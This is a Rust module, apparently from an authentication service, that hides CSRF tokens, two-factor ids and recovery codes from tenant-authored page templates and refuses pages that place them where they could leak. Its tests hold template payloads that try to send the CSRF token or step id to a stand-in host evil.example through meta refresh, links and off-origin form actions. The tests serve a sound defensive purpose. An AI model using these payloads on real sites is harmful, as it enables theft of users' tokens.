//! Page secrets (the CSRF token, a two-factor step's id, an authenticator being enrolled and
//! its recovery codes) kept out of the hands of tenant-authored page templates (S34, N12).
//!
//! A tenant's template renders on the service's own origin, where the CSRF cookie and the
//! user's sign-in live. It never sees a secret: each is replaced in its context by a marker,
//! and after rendering the markers are put back only where a secret belongs: a hidden field's
//! `value`, the text of the page (what the person must read), or an `otpauth:` link. A marker
//! anywhere else (a `<meta http-equiv=refresh>` URL, another attribute, a comment, a style) and
//! a form that posts anywhere but this origin refuse the page, and the built-in one stands in.
//! Since the template only ever held markers, no filter it applies (upper, reverse, slices) can
//! carry a secret out.

use serde_json::Value;

/// Where a secret may be placed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Placement {
    /// Only as the `value` of an `<input>`.
    Field,
    /// As an input's value, or in the page's text (an authenticator secret the person types).
    FieldOrText,
    /// Only in the page's text (recovery codes).
    Text,
    /// Only as the `href` of an `<a>` (the `otpauth:` URI).
    Link,
}

/// The context keys that carry secrets, and where each may go.
const SECRETS: &[(&[&str], Placement)] = &[
    (&["csrf"], Placement::Field),
    (&["two_factor_id"], Placement::Field),
    (&["finishing_code"], Placement::Field),
    (&["enrol", "secret"], Placement::FieldOrText),
    (&["enrol", "uri"], Placement::Link),
    (&["recovery_codes"], Placement::Text),
];

/// The secrets taken out of a context, by marker.
pub(super) struct Masked {
    secrets: Vec<(String, String, Placement)>,
}

const MARK_OPEN: char = '\u{E000}';
const MARK_CLOSE: char = '\u{E001}';

fn marker(index: usize) -> String {
    format!("{MARK_OPEN}{index}{MARK_CLOSE}")
}

/// Replaces every secret in `context` by a marker.
pub(super) fn mask(context: &mut Value) -> Masked {
    let mut secrets = Vec::new();
    for (path, placement) in SECRETS {
        let Some(slot) = slot(context, path) else {
            continue;
        };
        let mut take = |value: &mut Value| {
            if let Value::String(secret) = value {
                let mark = marker(secrets.len());
                secrets.push((mark.clone(), std::mem::take(secret), *placement));
                *secret = mark;
            }
        };
        match slot {
            Value::Array(items) => items.iter_mut().for_each(&mut take),
            other => take(other),
        }
    }
    Masked { secrets }
}

fn slot<'a>(context: &'a mut Value, path: &[&str]) -> Option<&'a mut Value> {
    path.iter()
        .try_fold(context, |value, key| value.get_mut(*key))
}

impl Masked {
    /// The page with its secrets put back, or `None` when the template placed one where it
    /// does not belong, or has a form that posts off this origin.
    pub(super) fn unmask(&self, html: &str) -> Option<String> {
        if !placements_hold(html, &|mark| self.placement(mark)) {
            return None;
        }
        let mut out = html.to_owned();
        for (mark, secret, _) in &self.secrets {
            out = out.replace(mark.as_str(), secret);
        }
        // A marker the template took apart is left as it is: it names nothing.
        Some(out)
    }

    fn placement(&self, mark: &str) -> Option<Placement> {
        self.secrets
            .iter()
            .find(|(m, _, _)| m == mark)
            .map(|(_, _, p)| *p)
    }
}

/// Where in a page a piece of it stands.
enum Spot<'a> {
    Text,
    /// An attribute's value, with the element and the attribute's name.
    Attribute(&'a str, &'a str),
    /// A comment, or the inside of an element whose content is not markup.
    Elsewhere,
}

/// Elements whose content is raw text, not markup.
const RAW_TEXT: &[&str] = &[
    "script",
    "style",
    "textarea",
    "title",
    "xmp",
    "iframe",
    "noembed",
    "noframes",
    "noscript",
    "plaintext",
];

/// Walks the page as a browser tokenizes it (tags, quoted and unquoted attributes, comments,
/// raw-text elements) and checks every marker's spot and every form target.
fn placements_hold(html: &str, placement_of: &dyn Fn(&str) -> Option<Placement>) -> bool {
    let allowed = |piece: &str, spot: Spot<'_>| -> bool {
        markers_in(piece).all(|(mark, whole)| {
            let Some(placement) = placement_of(mark) else {
                return true;
            };
            match spot {
                Spot::Text => matches!(placement, Placement::Text | Placement::FieldOrText),
                Spot::Attribute("input", "value") => {
                    whole && matches!(placement, Placement::Field | Placement::FieldOrText)
                }
                Spot::Attribute("a", "href") => whole && placement == Placement::Link,
                Spot::Attribute(..) | Spot::Elsewhere => false,
            }
        })
    };
    let mut rest = html;
    while let Some(open) = rest.find('<') {
        if !allowed(&rest[..open], Spot::Text) {
            return false;
        }
        let after = &rest[open + 1..];
        if let Some(comment) = after.strip_prefix("!--") {
            let end = comment.find("-->").map_or(comment.len(), |e| e + 3);
            if !allowed(&comment[..end.min(comment.len())], Spot::Elsewhere) {
                return false;
            }
            rest = &comment[end.min(comment.len())..];
            continue;
        }
        let closing = after.starts_with('/');
        let name_start = usize::from(closing);
        if !after[name_start..].starts_with(|c: char| c.is_ascii_alphabetic()) {
            // Not a tag: a `<` in text.
            if !allowed("<", Spot::Text) {
                return false;
            }
            rest = after;
            continue;
        }
        let Some((tag, attributes, consumed)) = tag_at(&after[name_start..]) else {
            // An unterminated tag: whatever follows is inside it.
            return !markers_in(after).any(|_| true);
        };
        rest = &after[name_start + consumed..];
        for (name, value) in &attributes {
            if !allowed(value, Spot::Attribute(tag.as_str(), name.as_str())) {
                return false;
            }
            let posts = matches!(name.as_str(), "action" | "formaction");
            if posts && !same_origin_path(value) {
                return false;
            }
        }
        if !closing && RAW_TEXT.contains(&tag.as_str()) {
            let end_tag = format!("</{tag}");
            let end = rest
                .to_ascii_lowercase()
                .find(&end_tag)
                .unwrap_or(rest.len());
            if !allowed(&rest[..end], Spot::Elsewhere) {
                return false;
            }
            rest = &rest[end..];
        }
    }
    allowed(rest, Spot::Text)
}

/// The markers in a piece, each with whether it is the whole piece.
fn markers_in(piece: &str) -> impl Iterator<Item = (&str, bool)> {
    let mut rest = piece;
    std::iter::from_fn(move || {
        let open = rest.find(MARK_OPEN)?;
        let close = rest[open..].find(MARK_CLOSE)? + open + MARK_CLOSE.len_utf8();
        let mark = &rest[open..close];
        rest = &rest[close..];
        Some((mark, mark.len() == piece.trim().len()))
    })
}

/// A form target on this origin: a path (`/…`, never `//…`), or none at all.
fn same_origin_path(value: &str) -> bool {
    let value = value.trim();
    value.is_empty()
        || (value.starts_with('/') && !value.starts_with("//") && !value.starts_with("/\\"))
}

/// A tag's name, its attributes as (name, value), and the bytes it took.
type Tag = (String, Vec<(String, String)>, usize);

/// A start or end tag from just after `<` (and `/`): its lower-case name, its attributes
/// (names lower-cased, values unquoted) and how many bytes it took, `>` included.
fn tag_at(text: &str) -> Option<Tag> {
    let bytes = text.as_bytes();
    let mut at = 0;
    while at < bytes.len() && !bytes[at].is_ascii_whitespace() && !matches!(bytes[at], b'>' | b'/')
    {
        at += 1;
    }
    let name = text[..at].to_ascii_lowercase();
    let mut attributes = Vec::new();
    loop {
        while at < bytes.len() && (bytes[at].is_ascii_whitespace() || bytes[at] == b'/') {
            at += 1;
        }
        if at >= bytes.len() {
            return None;
        }
        if bytes[at] == b'>' {
            return Some((name, attributes, at + 1));
        }
        let start = at;
        while at < bytes.len()
            && !bytes[at].is_ascii_whitespace()
            && !matches!(bytes[at], b'=' | b'>' | b'/')
        {
            at += 1;
        }
        let attribute = text[start..at].to_ascii_lowercase();
        while at < bytes.len() && bytes[at].is_ascii_whitespace() {
            at += 1;
        }
        let mut value = String::new();
        if at < bytes.len() && bytes[at] == b'=' {
            at += 1;
            while at < bytes.len() && bytes[at].is_ascii_whitespace() {
                at += 1;
            }
            match bytes.get(at) {
                Some(&quote @ (b'"' | b'\'')) => {
                    let close = text[at + 1..].find(char::from(quote))? + at + 1;
                    value = text[at + 1..close].to_owned();
                    at = close + 1;
                }
                Some(_) => {
                    let start = at;
                    while at < bytes.len() && !bytes[at].is_ascii_whitespace() && bytes[at] != b'>'
                    {
                        at += 1;
                    }
                    value = text[start..at].to_owned();
                }
                None => return None,
            }
        }
        if attribute.is_empty() && value.is_empty() {
            // A stray character the loop above cannot take: skip it.
            at += 1;
            continue;
        }
        attributes.push((attribute, value));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn masked() -> (Value, Masked) {
        let mut context = json!({
            "csrf": "CSRF-TOKEN",
            "two_factor_id": "STEP-ID",
            "enrol": {"secret": "ENROL-SECRET", "uri": "otpauth://totp/x?secret=ENROL-SECRET"},
            "recovery_codes": ["RC-ONE", "RC-TWO"],
            "title": "Sign in"
        });
        let masked = mask(&mut context);
        (context, masked)
    }

    fn at(context: &Value, path: &[&str]) -> String {
        path.iter()
            .fold(context, |v, k| &v[*k])
            .as_str()
            .unwrap()
            .to_owned()
    }

    #[test]
    fn n12_the_template_sees_markers_and_the_page_gets_the_secrets_where_they_belong() {
        let (context, masked) = masked();
        let csrf = at(&context, &["csrf"]);
        let step = at(&context, &["two_factor_id"]);
        let secret = at(&context, &["enrol", "secret"]);
        let uri = at(&context, &["enrol", "uri"]);
        let code = context["recovery_codes"][0].as_str().unwrap().to_owned();
        assert!(!context.to_string().contains("CSRF-TOKEN"));
        assert_eq!(context["title"], "Sign in");
        let page = format!(
            "<form method=post action=\"/oauth2/two-factor\"><input type=\"hidden\" name=\"csrf\" value=\"{csrf}\"><input type=hidden name=twoFactorId value='{step}'><input type=\"hidden\" name=\"enrolSecret\" value=\"{secret}\"></form><p><a href=\"{uri}\">app</a></p><code>{secret}</code><li>{code}</li>"
        );
        let out = masked.unmask(&page).unwrap();
        for secret in ["CSRF-TOKEN", "STEP-ID", "ENROL-SECRET", "RC-ONE"] {
            assert!(out.contains(secret), "{secret}: {out}");
        }
        assert!(!out.contains(MARK_OPEN));
    }

    #[test]
    fn n12_s34_a_secret_placed_to_leave_the_page_refuses_it() {
        let (context, masked) = masked();
        let csrf = at(&context, &["csrf"]);
        let step = at(&context, &["two_factor_id"]);
        let uri = at(&context, &["enrol", "uri"]);
        let code = context["recovery_codes"][0].as_str().unwrap().to_owned();
        for page in [
            format!("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/?{csrf}\">"),
            format!("<meta http-equiv=refresh content='0;url=https://evil.example/?<input value=\"{csrf}\">'>"),
            format!("<a href=\"https://evil.example/?s={step}\">x</a>"),
            format!("<input value=\"x{csrf}\">"),
            format!("<p>{csrf}</p>"),
            format!("<img src=\"{uri}\">"),
            format!("<a href=\"{code}\">x</a>"),
            format!("<!-- {csrf} -->"),
            format!("<style nonce=n>body{{background:url({csrf})}}</style>"),
            format!("<textarea name=t>{csrf}</textarea>"),
            "<form action=\"https://evil.example/collect\"></form>".to_owned(),
            "<form action=\"//evil.example/collect\"></form>".to_owned(),
            "<button formaction=\"https://evil.example/\">x</button>".to_owned(),
            format!("<input value=\"{csrf}\""),
        ] {
            assert!(masked.unmask(&page).is_none(), "{page}");
        }
    }

    #[test]
    fn n12_a_marker_the_template_takes_apart_carries_nothing() {
        let (context, masked) = masked();
        let csrf = at(&context, &["csrf"]);
        let reversed: String = csrf.chars().rev().collect();
        let out = masked
            .unmask(&format!(
                "<meta http-equiv=refresh content=\"0;url=https://evil.example/?{reversed}\">"
            ))
            .unwrap();
        assert!(!out.contains("CSRF-TOKEN") && !out.contains("NEKOT-FRSC"));
    }
}
